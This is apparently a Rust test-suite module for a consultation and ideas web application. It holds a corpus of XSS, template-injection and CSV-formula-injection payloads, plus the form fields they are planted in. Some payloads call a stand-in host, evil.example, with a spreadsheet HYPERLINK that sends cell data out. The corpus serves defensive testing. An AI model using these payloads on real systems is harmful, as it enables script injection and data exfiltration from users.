//! The corpus: the payloads, the fields people write, and the markers
//! that name them.

/// The corpus. `{m}` becomes the marker; most payloads start with it, so
/// that a field's length limit cuts the payload's tail, not its marker.
pub(super) const PAYLOADS: &[&str] = &[
    "{m} <script>alert('{m}')</script>",
    "{m} <img src=x onerror=alert('{m}')>",
    "{m} <svg onload=alert('{m}')><script>alert('{m}')</script><a xlink:href=\"javascript:alert(1)\">s</a></svg>",
    "{m} [click me](javascript:alert('{m}'))",
    "{m} <javascript:alert('{m}')> [x](jav&#x09;ascript:alert(1)) [y](&#106;avascript:alert(1))",
    "{m} [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href=\"vbscript:msgbox('{m}')\">v</a>",
    "{m}\"><script>alert('{m}')</script>",
    "{m}'><img src=x onerror=alert('{m}')>",
    "{m}\" autofocus onfocus=\"alert('{m}')\" x=\"' onmouseover='alert(1)' y='",
    "{m} </textarea></title></style><script>alert('{m}')</script>",
    "{m} {{7*7}} ${7*7} <%= 7*7 %> {% if 1 %}{{ '{m}' }}{% endif %} #{7*7}",
    "{m} &lt;script&gt;alert('{m}')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;svg onload=alert(1)&#x3E;",
    "{m} <div style=\"background:url(javascript:alert('{m}'));width:expression(alert('{m}'))\">css</div>",
    "{m} <style>@import 'https://evil.example/{m}.css';body{background:red}</style>",
    "{m} <iframe src=\"javascript:alert('{m}')\" srcdoc=\"<script>alert(1)</script>\"></iframe><object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "{m} <form action=\"javascript:alert('{m}')\"><button formaction=\"javascript:alert('{m}')\">go</button></form>",
    "{m} <base href=\"https://evil.example/{m}/\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "{m} <math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "{m} <noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\"></noscript>",
    "{m} \u{ff1c}script\u{ff1e}alert('{m}')\u{ff1c}/script\u{ff1e} <scr\u{200b}ipt>alert(1)</script> java\u{200b}script:alert(1)",
    "{m} \u{202e}gnp.exe <a href=\"java&#10;script:alert('{m}')\">n</a> <a href=\"&#14;javascript:alert(1)\">o</a>",
    "={m}+HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "+{m}+cmd|' /C calc'!A0",
    "-{m}+2+cmd|' /C calc'!A0",
    "@SUM({m})*cmd|' /C calc'!A0",
    "\t={m}+1+1",
];

pub(super) const MARK: &str = "xss7731";

/// How many payloads are planted or checked at once.
pub(super) const CONCURRENCY: usize = 4;

/// A field people write: its two-letter code (in markers), what it is and
/// its length limit (payloads are cut to it).
pub(super) struct Field {
    pub(super) code: &'static str,
    pub(super) name: &'static str,
    pub(super) max_chars: usize,
    /// Only shown back (a search, a refused form), never stored.
    pub(super) echo_only: bool,
}

pub(super) const fn field(code: &'static str, name: &'static str, max_chars: usize) -> Field {
    Field {
        code,
        name,
        max_chars,
        echo_only: false,
    }
}

pub(super) const fn echo(code: &'static str, name: &'static str, max_chars: usize) -> Field {
    Field {
        code,
        name,
        max_chars,
        echo_only: true,
    }
}

pub(super) const FIELDS: &[Field] = &[
    field("dn", "profile: full name", 100),
    field("jt", "profile: job title", 100),
    field("og", "profile: organisation", 200),
    field("tk", "API token name", 60),
    field("it", "idea: title", 150),
    field("id", "idea: description", 20_000),
    field("ie", "idea: expected impact", 2_000),
    field("cm", "idea: comment", 10_000),
    field("ce", "idea: comment as edited", 10_000),
    field("hr", "idea: why a comment was hidden", 1_000),
    field("sn", "idea: status change note", 5_000),
    field("th", "theme name", 80),
    field("tg", "tag", 40),
    field("ni", "internal note", 10_000),
    field("nr", "reply to the author", 10_000),
    field("rs", "report: system", 200),
    field("rp", "report: supplier", 200),
    field("rr", "report: standard reference", 500),
    field("ri", "report: impact on patients", 5_000),
    field("rf", "report: impact on staff", 5_000),
    field("re", "report: evidence", 20_000),
    field("rn", "report: status change note", 5_000),
    field("or", "organisation register: name (imported)", 200),
    field("oj", "organisation import: a refused row's name", 200),
    field("oc", "organisation import: a refused row's code", 20),
    field("ct", "consultation: title", 200),
    field("cs", "consultation: summary", 2_000),
    field("cd", "consultation: document text", 10_000),
    field("ch", "consultation: document heading", 150),
    field("qp", "consultation: question", 500),
    field("qh", "consultation: question's help text", 1_000),
    field("qo", "consultation: question's option", 200),
    field("vs", "consultation: new version's change summary", 5_000),
    field("os", "consultation: outcome summary (Markdown)", 20_000),
    field("on", "response: organisation responded for", 200),
    field("pa", "response: declared interest, products", 2_000),
    field("ci", "response: declared interest, commercial", 2_000),
    field("an", "response: answer", 20_000),
    field("sc", "response: comment on a section", 20_000),
    field("ra", "decision rationale", 5_000),
    field("rx", "redaction reason", 1_000),
    field("rd", "answer as published after redaction", 20_000),
    field("ss", "saved search: name", 100),
    field("sq", "saved search: query", 500),
    echo("q_", "search query", 500),
    echo("lp", "link: address typed on the page", 500),
];

pub(super) fn field_of(code: &str) -> &'static Field {
    FIELDS
        .iter()
        .find(|f| f.code == code)
        .unwrap_or_else(|| panic!("no field {code}"))
}

pub(super) fn marker(code: &str, i: usize) -> String {
    format!("{MARK}{code}{i:02}")
}

/// The field named by a marker found in some output.
pub(super) fn field_of_marker(m: &str) -> &'static Field {
    field_of(&m[MARK.len()..MARK.len() + 2])
}

/// Payload `i` as written into the field `code`, cut to the field's limit.
pub(super) fn text(code: &str, i: usize) -> String {
    let full = PAYLOADS[i].replace("{m}", &marker(code, i));
    let cut: String = full.chars().take(field_of(code).max_chars).collect();
    assert!(cut.contains(&marker(code, i)), "{code}{i}: marker cut off");
    cut
}

/// Harmless text for a field whose payload was refused, so that the rest
/// of the journey goes on.
pub(super) fn plain(code: &str, i: usize) -> String {
    format!("Plain {code} {i}")
}
